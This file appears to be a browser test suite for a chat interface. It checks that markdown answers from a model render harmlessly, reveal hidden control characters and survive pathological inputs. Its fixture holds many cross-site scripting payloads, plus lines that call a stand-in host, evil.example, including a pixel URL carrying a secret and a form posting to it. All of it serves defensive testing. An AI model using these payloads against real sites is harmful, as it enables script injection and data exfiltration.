// Whatever a model writes is text: nothing runs, nothing is fetched, nothing reorders the page, and nothing makes it hang.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { answers, ask, axe, inBrowser, script, settled, streamOf } from './harness.mjs';

const kMarkup = `<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 1"> <svg onload="window.hacked = 1"></svg>
<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe><style>* { display: none }</style>
<form action="https://evil.example/"><input name=key><button>Send</button></form>

<a href="javascript:window.hacked = 1">a</a> [b](javascript:window.hacked=1) [c](data:text/html,<script>1</script>)
[d](JAVASCRIPT:alert)
[e](vbscript:x) [f](//evil.example/x) [g](&#106;avascript:window.hacked=1)
![h](https://evil.example/pixel.png?secret) ![i](javascript:window.hacked=1)
[![j](https://evil.example/j.png)](https://evil.example/k)

<base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel=stylesheet href=https://evil.example/x.css>
<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>

\`\`\`html" onmouseover="window.hacked=1
<img src=x onerror=window.hacked=1></code></pre><script>window.hacked = 1</script>
\`\`\`
<div id=question class=composer style="position:fixed;inset:0">over everything</div>

https://example.com/fine <dialog open>x</dialog>`;

test('HTML, scripts, pictures and addresses do nothing', inBrowser({}, async (page, server, browser) => {
  await script(page, streamOf(kMarkup, 7));
  await ask(page, '<img src=x onerror="window.hacked = 1">');
  await settled(page, 1);
  const answer = answers(page);
  assert.equal(await page.evaluate(() => window.hacked), undefined);
  const live = 'script, img, svg, iframe, style, form, input, base, meta, link, math, dialog, [id], [style]';
  assert.equal(await answer.locator(live).count(), 0);
  assert.equal(await page.locator('[onerror], [onload], [onmouseover]').count(), 0);
  const addresses = await answer.locator('a').evaluateAll((links) => links.map((a) => a.getAttribute('href')));
  assert.ok(addresses.length >= 3);
  for (const address of addresses) assert.match(address, /^https:\/\/(evil|example)\./);
  assert.ok(await answer.locator('a').evaluateAll((links) =>
    links.every((a) => a.rel === 'noopener noreferrer' && a.target === '_blank')));
  assert.match(await answer.textContent(), /<script>window\.hacked = 1<\/script>/);
  assert.deepEqual(browser.requested.filter((url) => url.includes('evil')), []);
}));

test('terminal sequences and bidirectional overrides become visible', inBrowser({}, async (page) => {
  const text = 'a\u001b[31mred\u0007 \u202egnp.exe\u202c \u009b1m \u2066safe\u2069 nul\u0000\r\nnext\n\n' +
    '```\nif (x\u202e) {\u0008}\n```\n\nשלום עולם';
  await script(page, streamOf(text, 3));
  await ask(page, '\u202eodd');
  await settled(page, 1);
  const shown = await answers(page).textContent();
  assert.match(shown, /a␛\[31mred␇ ⟨U\+202E⟩gnp\.exe⟨U\+202C⟩ ⟨U\+009B⟩1m/);
  assert.doesNotMatch(await page.locator('.thread').textContent(), /[\u0000-\u0008\u001b\u202a-\u202e\u0080-\u009f]/);
  const directions = await answers(page).locator('p').evaluateAll((all) => all.map((p) => getComputedStyle(p).direction));
  assert.equal(directions.at(-1), 'rtl');
  assert.equal(directions[0], 'ltr');
}));

// The page must answer a click soon behind each of these.
const kHeavy = {
  '10,000 lines': Array.from({ length: 10_000 }, (_, i) => `- line ${i} with **bold** and \`code\``).join('\n'),
  '10,000 paragraphs': Array.from({ length: 10_000 }, (_, i) => `Paragraph ${i} of [many](https://example.com/${i}).`).join('\n\n'),
  '10,000 lines of code':
    `\`\`\`python\n${Array.from({ length: 10_000 }, (_, i) => `x_${i} = f("${i}")  # ${i}`).join('\n')}\n\`\`\``,
  'a line without end': 'word '.repeat(60_000),
  'quotes in quotes': `${'>'.repeat(5000)} deep`,
  'lists in lists': Array.from({ length: 400 }, (_, i) => `${'  '.repeat(i)}- deeper`).join('\n'),
  'emphasis without end': '*a_'.repeat(20_000),
  'brackets without end': '['.repeat(30_000),
  'a table without end': `|${'a|'.repeat(200)}\n|${'-|'.repeat(200)}\n${`|${'b|'.repeat(200)}\n`.repeat(100)}`,
  'marks on one letter': `Z${'\u0300\u0301\u0316'.repeat(5000)}`,
};

for (const [name, text] of Object.entries(kHeavy)) {
  test(`${name} can be shown`, inBrowser({}, async (page) => {
    await script(page, streamOf(text, 20_000), streamOf('Light.'));
    await ask(page, 'Much');
    await settled(page, 1);
    const length = (await answers(page).textContent()).length;
    assert.ok(length > text.replace(/[^a-z0-9]/gi, '').length / 2, `${length} characters are shown`);
    await page.getByRole('button', { name: 'New chat' }).click();
    await ask(page, 'Little');
    await page.getByText('Light.', { exact: true }).waitFor();
  }));
}

test('a long answer passes axe, too', inBrowser({}, async (page) => {
  await script(page, streamOf('# One\n\n## Two\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n> quote\n\n- [ ] open\n- [x] done\n\n' +
    '1. one\n\n---\n\n```js\nlet a = "b"; // c\n```\n\n[link](https://example.com)'));
  await ask(page, 'All of it');
  await settled(page, 1);
  await axe(page, 'Markdown');
  await page.getByRole('button', { name: 'Settings' }).click();
  await page.getByLabel('Colours').selectOption('dark');
  await page.getByRole('button', { name: 'Close' }).click();
  await axe(page, 'Markdown in the dark');
}));
